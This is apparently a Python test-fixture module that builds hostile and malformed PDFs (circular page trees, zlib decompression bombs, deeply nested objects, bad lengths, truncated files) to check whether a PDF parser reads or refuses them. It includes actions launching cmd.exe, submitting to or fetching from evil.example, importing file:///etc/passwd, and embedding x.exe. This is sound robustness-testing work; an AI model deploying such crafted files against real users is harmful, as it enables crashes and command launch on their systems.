"""PDF files that run in circles, explode, carry programs or lie about what they are."""

from __future__ import annotations

import zlib
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>"
FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
WORDS = b"BT /F 12 Tf 60 700 Td (1.1 The customer pays the fee.) Tj ET"


def files() -> Iterator[tuple[str, bytes, str]]:
    """Name, bytes and outcome."""
    yield "sound", written({}), "read"
    yield from ((name, written(changes), outcome) for name, changes, outcome in _circles())
    yield from ((name, written(changes), outcome) for name, changes, outcome in _explosions())
    for name, action in (
        ("script", "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        ("launch", "<< /S /Launch /F (cmd.exe) >>"),
        ("address", "<< /S /URI /URI (http://evil.example/x) >>"),
        ("form", "<< /S /SubmitForm /F (http://evil.example/x) >>"),
        ("remote", "<< /S /GoToR /F (http://evil.example/x.pdf) >>"),
        ("import", "<< /S /ImportData /F (file:///etc/passwd) >>"),
    ):
        yield f"action-{name}", written({1: f"<< /Type /Catalog /Pages 2 0 R /OpenAction {action} >>"}), "read"
    embedded = "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >> >>"
    yield (
        "embedded-file",
        written({1: embedded, 6: "<< /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>", 7: stream(b"MZ")}),
        "read",
    )
    whole = written({})
    yield "cut-in-half", whole[: len(whole) // 2], "refused"
    yield "no-trailer", whole[: whole.rfind(b"trailer")], "refused"
    yield "header-only", b"%PDF-1.7\n", "refused"
    yield "noise", b"%PDF-1.7\n" + bytes(range(256)) * 400, "refused"
    yield "xref-on-itself", whole.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev 9"), "read"
    yield "xref-elsewhere", whole.replace(b"startxref\n", b"startxref\n99999999999"), "read"
    yield (
        "encrypted",
        whole.replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -1 >>"),
        "refused",
    )
    yield "page-behind-text", b"<script>alert(1)</script>" + whole, "read"
    yield "archive-behind", whole + b"PK\x05\x06" + bytes(18), "read"


def _circles() -> Iterator[tuple[str, Mapping[int, str | bytes], str]]:
    yield "pages-in-a-circle", {2: "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}, "refused"
    yield (
        "pages-of-each-other",
        {2: "<< /Type /Pages /Kids [6 0 R] /Count 1 >>", 6: "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"},
        "refused",
    )
    yield "page-twice", {2: "<< /Type /Pages /Kids [3 0 R 3 0 R 3 0 R] /Count 3 >>"}, "read"
    yield "length-on-itself", {4: b"<< /Length 4 0 R >>\nstream\n" + WORDS + b"\nendstream"}, "read"
    form = PAGE.replace("/Font << /F 5 0 R >>", "/XObject << /X 6 0 R >>")
    itself = stream(b"/X Do", " /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>")
    yield "form-draws-itself", {3: form, 4: stream(b"/X Do"), 6: itself}, "refused"
    outline = "<< /Title (x) /Next 6 0 R /Parent 6 0 R /First 6 0 R >>"
    yield "outline-in-a-circle", {1: "<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>", 6: outline}, "read"
    yield "parent-in-a-circle", {2: "<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 3 0 R >>"}, "read"
    yield "object-that-is-itself", {5: "5 0 R"}, "read"


def _explosions() -> Iterator[tuple[str, Mapping[int, str | bytes], str]]:
    bomb = zlib.compress(b"BT ET " * 10_000_000)
    yield "bomb", {4: b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(bomb) + bomb + b"\nendstream"}, "refused"
    twice = zlib.compress(zlib.compress(bytes(100_000_000)))
    yield (
        "bomb-twice",
        {4: b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(twice) + twice + b"\nendstream"},
        "refused",
    )
    filters = " ".join(["/ASCIIHexDecode"] * 500)
    yield "many-filters", {4: f"<< /Length 4 /Filter [{filters}] >>\nstream\n00>\nendstream"}, "refused"
    yield "length-of-a-giga", {4: b"<< /Length 4000000000 >>\nstream\n" + WORDS + b"\nendstream"}, "read"
    yield "negative-length", {4: b"<< /Length -5 >>\nstream\n" + WORDS + b"\nendstream"}, "read"
    yield "many-pages-said", {2: "<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>"}, "read"
    yield "many-pages", {2: f"<< /Type /Pages /Kids [{'3 0 R ' * 5000}] /Count 5000 >>"}, "refused"
    yield "deep-arrays", {5: "[" * 50_000 + "]" * 50_000}, "read"
    yield "deep-tables", {5: "<< /A " * 20_000 + "1" + " >>" * 20_000}, "read"
    for name, box in (("zero", "0 0 0 0"), ("giant", "0 0 1e30 1e30"), ("words", "a b c d"), ("turned", "9 9 -9 -9")):
        yield f"paper-{name}", {3: PAGE.replace("0 0 595 842", box)}, "read"
    yield "many-letters", {4: stream(b"BT /F 1 Tf 1 0 0 1 9 9 Tm (" + b"x" * 1_000_000 + b") Tj ET")}, "read"
    yield "no-letter-size", {4: stream(WORDS.replace(b"12 Tf", b"0 Tf"))}, "refused"
    yield "letters-beyond", {4: stream(WORDS.replace(b"60 700", b"1e38 -1e38"))}, "read"
    broken = stream(b"begincmap 1 beginbfrange <00> <FFFFFFFF> <0000> endbfrange endcmap")
    yield "broken-letters", {5: FONT.replace(" >>", " /ToUnicode 6 0 R >>"), 6: broken}, "read"


def stream(data: bytes, more: str = "") -> bytes:
    """Write a stream with its length."""
    return f"<< /Length {len(data)}{more} >>\nstream\n".encode() + data + b"\nendstream"


def written(changes: Mapping[int, str | bytes]) -> bytes:
    """Write a PDF of one page with these objects in place of its own (ISO 32000-1, 7.5)."""
    objects: dict[int, str | bytes] = {
        1: "<< /Type /Catalog /Pages 2 0 R >>",
        2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: PAGE,
        4: stream(WORDS),
        5: FONT,
    }
    objects |= dict(changes)
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number in sorted(objects):
        places.append(len(out))
        content = objects[number]
        out += (
            f"{number} 0 obj\n".encode() + (content.encode() if isinstance(content, str) else content) + b"\nendobj\n"
        )
    start = len(out)
    out += f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    out += f"trailer\n<< /Size {len(places) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)
